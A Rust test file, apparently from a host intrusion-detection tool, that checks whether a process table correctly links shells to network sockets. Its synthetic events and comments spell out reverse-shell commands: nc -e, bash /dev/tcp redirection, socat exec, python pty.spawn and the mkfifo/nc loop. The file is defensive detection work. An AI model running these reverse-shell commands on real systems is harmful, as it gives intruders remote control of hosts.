use super::*;
use ward_event::build::*;
use ward_event::FdKind;

const C: &str = "c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00";

fn table() -> ProcessTable {
    ProcessTable::new(TableConfig::default())
}

fn via(t: &ProcessTable, pid: Pid) -> Option<BindVia> {
    t.get(pid).and_then(|p| p.binding()).map(|b| b.via)
}

fn origin(t: &ProcessTable, pid: Pid) -> Option<Pid> {
    t.get(pid).and_then(|p| p.binding()).map(|b| b.origin_pid)
}

#[test]
fn lineage_and_exit_cleanup() {
    let mut t = table();
    t.apply(ExecBuilder::new(1, 100, 1, "/bin/bash").event());
    t.apply(fork(2, 101, 100));
    t.apply(ExecBuilder::new(3, 101, 100, "/bin/sleep").event());
    t.apply(fork(4, 102, 101));
    t.apply(ExecBuilder::new(5, 102, 101, "/bin/id").event());
    let chain: Vec<Pid> = t.ancestors(102).map(|p| p.pid).collect();
    assert_eq!(chain, vec![101, 100]);
    assert_eq!(t.get(102).unwrap().program(), "id");
    // Parent exits first: kept for lineage while the child lives.
    t.apply(exit(6, 101));
    assert!(t.get(101).is_some());
    assert_eq!(
        t.ancestors(102).map(|p| p.pid).collect::<Vec<_>>(),
        vec![101, 100]
    );
    t.apply(exit(7, 102));
    assert!(t.get(102).is_none());
    assert!(
        t.get(101).is_none(),
        "exited parent goes with its last child"
    );
    assert!(t.get(100).is_some());
}

#[test]
fn size_is_capped_and_evictions_counted() {
    let mut t = ProcessTable::new(TableConfig {
        max_processes: 100,
        ..Default::default()
    });
    for i in 0..1000u32 {
        t.apply(ExecBuilder::new(i as u64, 1000 + i, 1, "/bin/true").event());
    }
    assert_eq!(t.len(), 100);
    assert_eq!(t.stats().evicted, 900);
    assert!(t.get(1999).is_some() && t.get(1000).is_none());
}

#[test]
fn nc_e_hands_the_socket_to_the_shell() {
    let mut t = table();
    t.apply(
        ExecBuilder::new(1, 10, 1, "/bin/nc")
            .args(&["nc", "10.0.0.9", "4444", "-e", "/bin/sh"])
            .event(),
    );
    let applied = t.apply(connect(2, 10, 77, "10.0.0.5:40000", "10.0.0.9:4444"));
    assert!(applied.newly_bound.is_empty());
    t.apply(fork(3, 11, 10));
    t.apply(
        ExecBuilder::new(4, 11, 10, "/bin/sh")
            .stdio(0, tcp(77, "10.0.0.5:40000", "10.0.0.9:4444"))
            .stdio(1, tcp(77, "10.0.0.5:40000", "10.0.0.9:4444"))
            .event(),
    );
    // The shell's own stdio is nc's socket: the origin stays nc.
    assert_eq!(origin(&t, 11), Some(10));
    t.apply(fork(5, 12, 11));
    t.apply(
        ExecBuilder::new(6, 12, 11, "/usr/bin/id")
            .stdio(0, tcp(77, "10.0.0.5:40000", "10.0.0.9:4444"))
            .event(),
    );
    assert_eq!(origin(&t, 12), Some(10));
}

#[test]
fn bash_dev_tcp_dup_binds_after_exec() {
    let mut t = table();
    t.apply(
        ExecBuilder::new(1, 20, 1, "/bin/bash")
            .args(&["bash", "-i"])
            .event(),
    );
    assert_eq!(via(&t, 20), None);
    let sock = tcp(55, "127.0.0.1:50000", "127.0.0.1:4444");
    // `exec >& /dev/tcp/H/P 0>&1` in an interactive shell: 1 and 2 first, then `0>&1`.
    let a = t.apply(dup(2, 20, 1, sock.clone()));
    assert!(a.newly_bound.is_empty(), "stdout alone binds nothing");
    assert_eq!(via(&t, 20), None);
    t.apply(dup(3, 20, 2, sock.clone()));
    let a = t.apply(dup(4, 20, 0, sock));
    assert!(a.newly_bound.is_empty(), "pending until it runs something");
    assert_eq!(via(&t, 20), Some(BindVia::Dup));
    // The first command the peer sends confirms it.
    let a = t.apply(fork(5, 21, 20));
    assert_eq!(a.newly_bound, vec![20]);
    assert_eq!(origin(&t, 21), Some(20), "children inherit at fork");
    let a = t.apply(fork(6, 22, 20));
    assert!(a.newly_bound.is_empty(), "confirmed once");
}

/// `exec 3<>/dev/tcp/H/P; printf 'GET /health ...' >&3; read l <&3; cat <&3 >/dev/null`: the
/// shell's own stdio is the socket only around builtins and just before it execs `cat`.
#[test]
fn builtin_redirections_and_exec_redirections_do_not_bind_the_shell() {
    let mut t = table();
    let pipe = fd(FdKind::Pipe, 70);
    t.apply(
        ExecBuilder::new(1, 60, 1, "/bin/bash")
            .args(&["bash", "-c", "exec 3<>/dev/tcp/10.0.0.9/80; ..."])
            .stdio(0, pipe.clone())
            .stdio(1, pipe.clone())
            .event(),
    );
    let sock = tcp(56, "10.0.0.5:40000", "10.0.0.9:80");
    t.apply(connect(2, 60, 56, "10.0.0.5:40000", "10.0.0.9:80"));
    // printf >&3 (saved fd 1 on fd 10, socket on 1, restored).
    let a = t.apply(dup(3, 60, 1, sock.clone()));
    assert!(a.newly_bound.is_empty());
    t.apply(dup(4, 60, 1, pipe.clone()));
    assert_eq!(via(&t, 60), None);
    // read l <&3
    t.apply(dup(5, 60, 0, sock.clone()));
    assert!(t.get(60).unwrap().own_pending);
    t.apply(dup(6, 60, 0, pipe.clone()));
    assert_eq!(via(&t, 60), None);
    assert!(!t.get(60).unwrap().own_pending);
    // cat <&3 >/dev/null as the last command: redirect, then exec cat in place.
    t.apply(dup(7, 60, 0, sock.clone()));
    t.apply(dup(8, 60, 1, fd(FdKind::Char, 5)));
    t.apply(
        ExecBuilder::new(9, 60, 1, "/usr/bin/cat")
            .stdio(0, sock)
            .stdio(1, fd(FdKind::Char, 5))
            .event(),
    );
    let p = t.get(60).unwrap();
    assert!(!p.own_pending);
    // cat reads the socket itself (the detector calls that a transfer).
    assert_eq!(origin(&t, 60), Some(60));
}

#[test]
fn a_shell_on_a_connected_udp_socket_is_bound() {
    let mut t = table();
    let sock = udp(57, "127.0.0.1:50001", "127.0.0.1:5353");
    t.apply(
        ExecBuilder::new(1, 65, 1, "/bin/sh")
            .args(&["sh", "-i"])
            .stdio(0, sock.clone())
            .stdio(1, sock.clone())
            .stdio(2, sock)
            .event(),
    );
    let b = t.get(65).unwrap().binding().unwrap().clone();
    assert_eq!(b.via, BindVia::Stdio);
    assert_eq!(b.socket.protocol, ward_event::Protocol::Udp);
    assert_eq!(b.socket.remote_port, 5353);
}

fn python_relay(t: &mut ProcessTable, connect_first: bool, shell_args: &[&str]) -> Applied {
    t.apply(
        ExecBuilder::new(1, 70, 1, "/usr/bin/python3")
            .args(&["python3", "relay.py"])
            .container(C, "web", "img")
            .event(),
    );
    let mut applied = Applied::default();
    if connect_first {
        applied = t.apply(connect(2, 70, 91, "10.0.0.5:40000", "10.0.0.9:4444"));
        assert!(applied.newly_bound.is_empty());
    }
    t.apply(fork(3, 71, 70));
    let a = t.apply(
        ExecBuilder::new(4, 71, 70, "/bin/sh")
            .args(shell_args)
            .stdio(0, fd(FdKind::Pipe, 92))
            .stdio(1, fd(FdKind::Pipe, 93))
            .stdio(2, fd(FdKind::Pipe, 93))
            .stdin_writer(70)
            .container(C, "web", "img")
            .event(),
    );
    assert!(a.newly_bound.is_empty());
    if !connect_first {
        applied = t.apply(connect(5, 70, 91, "10.0.0.5:40000", "10.0.0.9:4444"));
    }
    applied
}

#[test]
fn interpreter_relay_binds_an_interactive_shell_on_its_pipe_in_either_order() {
    for connect_first in [true, false] {
        let mut t = table();
        let a = python_relay(&mut t, connect_first, &["/bin/sh"]);
        let b = t.get(71).unwrap().binding().unwrap().clone();
        assert_eq!(b.via, BindVia::PipeWriter, "connect first: {connect_first}");
        assert_eq!(b.origin_pid, 70);
        assert_eq!(b.origin_program, "python3");
        assert_eq!(b.socket.remote_port, 4444);
        assert!(t.get(71).unwrap().bound_by_pipe);
        if !connect_first {
            assert_eq!(a.newly_bound, vec![71]);
        }
        // What the shell runs inherits it.
        t.apply(fork(6, 72, 71));
        assert_eq!(origin(&t, 72), Some(70));
    }
}

#[test]
fn relay_pipes_into_non_interactive_shells_and_other_programs_bind_nothing() {
    for connect_first in [true, false] {
        // node `exec("ls")` = `/bin/sh -c ls` on pipes from a server holding connections.
        let mut t = table();
        let a = python_relay(&mut t, connect_first, &["/bin/sh", "-c", "ls"]);
        assert!(a.newly_bound.is_empty());
        assert_eq!(via(&t, 71), None);
        let mut t = table();
        python_relay(&mut t, connect_first, &["sh", "/app/job.sh"]);
        assert_eq!(via(&t, 71), None);
    }
    // A non-shell on the pipe (a worker process fed by its server).
    let mut t = table();
    t.apply(ExecBuilder::new(1, 75, 1, "/usr/bin/node").event());
    t.apply(connect(2, 75, 91, "10.0.0.5:40000", "10.0.0.9:443"));
    t.apply(fork(3, 76, 75));
    t.apply(
        ExecBuilder::new(4, 76, 75, "/usr/bin/convert")
            .stdio(0, fd(FdKind::Pipe, 92))
            .stdin_writer(75)
            .event(),
    );
    assert_eq!(via(&t, 76), None);
}

#[test]
fn a_pipe_writer_in_another_container_binds_nothing() {
    let mut t = table();
    t.apply(ExecBuilder::new(1, 77, 1, "/usr/bin/python3").event());
    t.apply(connect(2, 77, 91, "10.0.0.5:40000", "10.0.0.9:4444"));
    t.apply(
        ExecBuilder::new(3, 78, 77, "/bin/sh")
            .stdio(0, fd(FdKind::Pipe, 92))
            .stdin_writer(77)
            .container(C, "web", "img")
            .event(),
    );
    assert_eq!(via(&t, 78), None);
}

#[test]
fn python_pty_spawn_shell_is_bound_through_its_ancestor() {
    let mut t = table();
    t.apply(
        ExecBuilder::new(1, 30, 1, "/usr/bin/python3")
            .args(&["python3", "-c", "..."])
            .container(C, "web", "img")
            .event(),
    );
    let sock = tcp(66, "[::1]:50000", "[::1]:4444");
    for fd in 0..3 {
        t.apply(dup(2, 30, fd, sock.clone()));
    }
    // pty.spawn: the child moves the pty slave onto 0-2, then execs the shell.
    t.apply(fork(3, 31, 30));
    for fd in 0..3 {
        t.apply(dup(4, 31, fd, ward_event::build::fd(FdKind::Tty, 9)));
    }
    t.apply(
        ExecBuilder::new(5, 31, 30, "/bin/sh")
            .container(C, "web", "img")
            .event(),
    );
    let p = t.get(31).unwrap();
    assert!(p.own.is_none());
    assert_eq!(origin(&t, 31), Some(30));
    assert_eq!(p.binding().unwrap().socket.remote_port, 4444);
}

#[test]
fn socat_exec_child_is_bound_when_the_relay_connects() {
    let mut t = table();
    t.apply(
        ExecBuilder::new(1, 40, 1, "/usr/bin/socat")
            .args(&["socat", "exec:bash -li,pty,stderr", "tcp:127.0.0.1:4444"])
            .event(),
    );
    t.apply(fork(2, 41, 40));
    t.apply(
        ExecBuilder::new(3, 41, 40, "/bin/bash")
            .args(&["bash", "-li"])
            .event(),
    );
    assert_eq!(via(&t, 41), None);
    let a = t.apply(connect(4, 40, 88, "127.0.0.1:50000", "127.0.0.1:4444"));
    assert_eq!(a.newly_bound, vec![41]);
    assert_eq!(via(&t, 41), Some(BindVia::Relay));
    t.apply(fork(5, 42, 41));
    t.apply(ExecBuilder::new(6, 42, 41, "/usr/bin/id").event());
    assert_eq!(origin(&t, 42), Some(40));
}

#[test]
fn non_relay_connections_bind_nothing() {
    let mut t = table();
    t.apply(ExecBuilder::new(1, 50, 1, "/usr/bin/curl").event());
    t.apply(fork(2, 51, 50));
    t.apply(ExecBuilder::new(3, 51, 50, "/bin/sh").event());
    let a = t.apply(connect(4, 50, 9, "10.0.0.1:1000", "1.2.3.4:443"));
    assert!(a.newly_bound.is_empty());
    assert_eq!(via(&t, 51), None);
}

/// `rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc H P > /tmp/f`
fn mkfifo_pipeline(nc_connects_first: bool) -> ProcessTable {
    let mut t = table();
    let (fifo, p1, p2) = (500, 501, 502);
    t.apply(
        ExecBuilder::new(1, 60, 1, "/bin/sh")
            .container(C, "web", "img")
            .event(),
    );
    for pid in [61, 62, 63] {
        t.apply(fork(2, pid, 60));
    }
    let cat = ExecBuilder::new(3, 61, 60, "/bin/cat")
        .args(&["cat", "/tmp/f"])
        .stdio(0, fd(FdKind::Fifo, fifo))
        .stdio(1, fd(FdKind::Pipe, p1))
        .container(C, "web", "img")
        .event();
    let sh = ExecBuilder::new(3, 62, 60, "/bin/sh")
        .args(&["/bin/sh", "-i"])
        .stdio(0, fd(FdKind::Pipe, p1))
        .stdio(1, fd(FdKind::Pipe, p2))
        .container(C, "web", "img")
        .event();
    let nc = ExecBuilder::new(3, 63, 60, "/bin/nc")
        .args(&["nc", "10.1.1.1", "9001"])
        .stdio(0, fd(FdKind::Pipe, p2))
        .stdio(1, fd(FdKind::Fifo, fifo))
        .container(C, "web", "img")
        .event();
    let conn = connect(4, 63, 70, "10.0.0.2:40000", "10.1.1.1:9001");
    if nc_connects_first {
        t.apply(nc);
        t.apply(conn);
        t.apply(cat);
        t.apply(sh);
    } else {
        t.apply(cat);
        t.apply(sh);
        t.apply(nc);
        let a = t.apply(conn);
        assert_eq!(a.newly_bound, vec![61, 62], "cat then the shell it feeds");
    }
    t
}

#[test]
fn mkfifo_pipeline_binds_the_shell_in_either_order() {
    for first in [true, false] {
        let t = mkfifo_pipeline(first);
        assert_eq!(via(&t, 62), Some(BindVia::Pipe), "nc first: {first}");
        assert_eq!(origin(&t, 62), Some(63));
        assert_eq!(
            t.get(62).unwrap().binding().unwrap().socket.remote_port,
            9001
        );
        assert_eq!(via(&t, 60), None, "the parent shell is not bound");
    }
}

#[test]
fn local_pipelines_and_unix_sockets_are_not_bound() {
    let mut t = table();
    t.apply(
        ExecBuilder::new(1, 70, 1, "/bin/ls")
            .stdio(1, fd(FdKind::Pipe, 900))
            .event(),
    );
    t.apply(
        ExecBuilder::new(1, 71, 1, "/bin/grep")
            .stdio(0, fd(FdKind::Pipe, 900))
            .event(),
    );
    t.apply(
        ExecBuilder::new(1, 72, 1, "/bin/sh")
            .stdio(0, fd(FdKind::UnixSocket, 901))
            .event(),
    );
    let listening = FdInfo {
        socket: Some(ward_event::SocketInfo {
            remote_ip: any_ip(),
            remote_port: 0,
            ..socket("0.0.0.0:80", "1.1.1.1:1")
        }),
        ..tcp(902, "0.0.0.0:80", "1.1.1.1:1")
    };
    t.apply(
        ExecBuilder::new(1, 73, 1, "/bin/sh")
            .stdio(0, listening)
            .event(),
    );
    for pid in 70..=73 {
        assert_eq!(via(&t, pid), None, "pid {pid}");
    }
}

#[test]
fn bindings_do_not_cross_into_another_container() {
    let mut t = table();
    t.apply(
        ExecBuilder::new(1, 80, 1, "/usr/bin/conmon")
            .stdio(0, tcp(5, "10.0.0.1:1", "10.0.0.2:2"))
            .event(),
    );
    assert!(via(&t, 80).is_some());
    t.apply(fork(2, 81, 80));
    t.apply(
        ExecBuilder::new(3, 81, 80, "/bin/sh")
            .container(C, "web", "img")
            .event(),
    );
    assert_eq!(via(&t, 81), None);
}

#[test]
fn dup_of_a_pipe_over_the_socket_clears_own_binding() {
    let mut t = table();
    t.apply(ExecBuilder::new(1, 90, 1, "/usr/bin/perl").event());
    t.apply(dup(2, 90, 0, tcp(7, "10.0.0.1:1", "10.0.0.2:2")));
    assert!(via(&t, 90).is_some());
    t.apply(dup(3, 90, 0, fd(FdKind::Pipe, 8)));
    assert_eq!(via(&t, 90), None);
}

/// The canonical `cat /tmp/f | /bin/sh -i 2>&1 | nc H P > /tmp/f`: `cat` opens the FIFO by
/// name (fd 3, invisible), so the evidence is the loop shape on fds 0-2: the shell's stdout
/// is nc's stdin pipe, nc writes the peer's data into a FIFO, the shell reads a pipe.
fn canonical_mkfifo(relay_connects_first: bool) -> (ProcessTable, Applied) {
    let mut t = table();
    let (fifo, p1, p2) = (700, 701, 702);
    let null = fd(FdKind::Char, 5);
    t.apply(
        ExecBuilder::new(1, 60, 1, "/bin/sh")
            .container(C, "web", "img")
            .event(),
    );
    for pid in [61, 62, 63] {
        t.apply(fork(2, pid, 60));
    }
    let cat = ExecBuilder::new(3, 61, 60, "/bin/cat")
        .args(&["cat", "/tmp/f"])
        .stdio(0, null.clone())
        .stdio(1, fd(FdKind::Pipe, p1))
        .container(C, "web", "img")
        .event();
    let sh = ExecBuilder::new(3, 62, 60, "/bin/sh")
        .args(&["/bin/sh", "-i"])
        .stdio(0, fd(FdKind::Pipe, p1))
        .stdio(1, fd(FdKind::Pipe, p2))
        .stdio(2, fd(FdKind::Pipe, p2))
        .container(C, "web", "img")
        .event();
    let nc = ExecBuilder::new(3, 63, 60, "/bin/nc")
        .args(&["nc", "10.1.1.1", "9001"])
        .stdio(0, fd(FdKind::Pipe, p2))
        .stdio(1, fd(FdKind::Fifo, fifo))
        .container(C, "web", "img")
        .event();
    let conn = connect(4, 63, 70, "10.0.0.2:40000", "10.1.1.1:9001");
    let last = if relay_connects_first {
        t.apply(nc);
        t.apply(conn);
        t.apply(cat);
        t.apply(sh)
    } else {
        t.apply(cat);
        t.apply(sh);
        t.apply(nc);
        t.apply(conn)
    };
    (t, last)
}

#[test]
fn canonical_mkfifo_pipeline_binds_the_shell_through_the_loop() {
    for first in [true, false] {
        let (t, last) = canonical_mkfifo(first);
        assert_eq!(via(&t, 62), Some(BindVia::PipeLoop), "relay first: {first}");
        assert_eq!(origin(&t, 62), Some(63));
        assert!(t.get(62).unwrap().bound_by_pipe);
        assert_eq!(via(&t, 61), None, "cat reads /dev/null on stdin");
        assert_eq!(via(&t, 60), None);
        if !first {
            assert_eq!(last.newly_bound, vec![62], "bound when nc connects");
        }
    }
}

#[test]
fn a_relay_writing_to_a_terminal_closes_no_loop() {
    // `sh -c 'ls' | nc H P`: output sent out, nothing comes back into a pipe.
    let mut t = table();
    t.apply(
        ExecBuilder::new(1, 80, 1, "/bin/sh")
            .stdio(0, fd(FdKind::Pipe, 5))
            .stdio(1, fd(FdKind::Pipe, 6))
            .event(),
    );
    t.apply(
        ExecBuilder::new(1, 81, 1, "/bin/nc")
            .stdio(0, fd(FdKind::Pipe, 6))
            .event(),
    );
    let a = t.apply(connect(2, 81, 9, "10.0.0.1:1", "10.0.0.2:2"));
    assert!(a.newly_bound.is_empty());
    assert_eq!(via(&t, 80), None);
}

// The pipe index (pipe neighbours for the rules).

const S: u64 = 1_000_000_000;

fn writer_of(t: &ProcessTable, inode: u64, now: u64) -> Option<Pid> {
    t.pipe_writer(inode, None, 0, now).map(|e| e.pid)
}

#[test]
fn the_pipe_index_follows_exec_dup_exit_and_eviction() {
    let p = fd(FdKind::Pipe, 77);
    let mut t = table();
    // Off: nothing is indexed or found.
    t.apply(
        ExecBuilder::new(1, 10, 1, "/usr/bin/curl")
            .stdio(1, p.clone())
            .event(),
    );
    assert_eq!(writer_of(&t, 77, 2), None);
    // Turned on: what the table holds is indexed.
    t.set_pipe_index(true);
    assert_eq!(writer_of(&t, 77, 2), Some(10));
    // Never the asking process itself; not another container's.
    assert_eq!(t.pipe_writer(77, None, 10, 2).map(|e| e.pid), None);
    assert_eq!(t.pipe_writer(77, Some(C), 0, 2).map(|e| e.pid), None);
    // A forked child holding the pipe is no neighbour until it execs.
    t.apply(fork(3, 11, 1));
    t.apply(dup(4, 11, 0, p.clone()));
    assert_eq!(t.pipe_reader(77, None, 0, 5).map(|e| e.pid), None);
    t.apply(
        ExecBuilder::new(5, 11, 1, "/usr/bin/base64")
            .stdio(0, p.clone())
            .event(),
    );
    assert_eq!(t.pipe_reader(77, None, 0, 6).map(|e| e.pid), Some(11));
    // A dup that moves fd 0 away takes it out.
    t.apply(dup(6, 11, 0, fd(FdKind::Char, 5)));
    assert_eq!(t.pipe_reader(77, None, 0, 7).map(|e| e.pid), None);
    // An exited writer counts for the grace period, then not.
    t.apply(exit(10 * S, 10));
    assert!(t.get(10).is_none());
    assert_eq!(writer_of(&t, 77, 10 * S + 1), Some(10));
    assert_eq!(writer_of(&t, 77, 10 * S + PIPE_EXITED_GRACE_NS + 1), None);
    // A live writer is preferred to an exited one.
    t.apply(
        ExecBuilder::new(10 * S + 2, 12, 1, "/usr/bin/wget")
            .stdio(1, p.clone())
            .event(),
    );
    assert_eq!(writer_of(&t, 77, 10 * S + 3), Some(12));
}

#[test]
fn the_pipe_index_is_bounded() {
    let mut t = ProcessTable::new(TableConfig {
        max_processes: 100,
        ..Default::default()
    });
    t.set_pipe_index(true);
    for i in 0..1000u32 {
        t.apply(
            ExecBuilder::new(i as u64, 1000 + i, 1, "/bin/cat")
                .stdio(1, fd(FdKind::Pipe, 5000 + i as u64))
                .event(),
        );
    }
    let index = t.pipes.as_ref().unwrap();
    assert_eq!(
        index.writers.len(),
        100,
        "evicted processes leave the index"
    );
    // Exited ones: at most PIPE_EXITED_MAX remembered.
    for i in 0..3000u32 {
        t.apply(
            ExecBuilder::new(2000 + i as u64, 5000 + i, 1, "/bin/cat")
                .stdio(1, fd(FdKind::Pipe, 90_000 + i as u64))
                .event(),
        );
        t.apply(exit(2001 + i as u64, 5000 + i));
    }
    let index = t.pipes.as_ref().unwrap();
    assert!(index.exited.len() <= PIPE_EXITED_MAX);
    assert!(
        index.writers.len() <= 100 + PIPE_EXITED_MAX,
        "{}",
        index.writers.len()
    );
}

#[test]
fn the_pipe_index_can_keep_only_named_execs() {
    let mut t = ProcessTable::new(TableConfig::default());
    t.set_pipe_index(true);
    t.set_pipe_index_names(Some(vec!["curl".into(), "base64".into()]));
    let p = fd(FdKind::Pipe, 77);
    // By its filename's or its binary's basename.
    t.apply(
        ExecBuilder::new(1, 10, 1, "/usr/bin/curl")
            .stdio(1, p.clone())
            .event(),
    );
    t.apply(
        ExecBuilder::new(2, 11, 1, "/usr/bin/base64")
            .binary_path("/bin/busybox")
            .stdio(0, p.clone())
            .event(),
    );
    t.apply(
        ExecBuilder::new(3, 12, 1, "/usr/bin/tee")
            .stdio(1, fd(FdKind::Pipe, 78))
            .event(),
    );
    assert_eq!(t.pipe_writer(77, None, 0, 4).map(|e| e.pid), Some(10));
    assert_eq!(t.pipe_reader(77, None, 0, 4).map(|e| e.pid), Some(11));
    assert_eq!(
        t.pipe_writer(78, None, 0, 4).map(|e| e.pid),
        None,
        "tee is not named"
    );
    let index = t.pipes.as_ref().unwrap();
    assert_eq!((index.writers.len(), index.readers.len()), (1, 1));
    // Without names, every exec again (from its next exec on).
    t.set_pipe_index_names(None);
    t.apply(
        ExecBuilder::new(5, 12, 1, "/usr/bin/tee")
            .stdio(1, fd(FdKind::Pipe, 78))
            .event(),
    );
    assert_eq!(t.pipe_writer(78, None, 0, 6).map(|e| e.pid), Some(12));
}
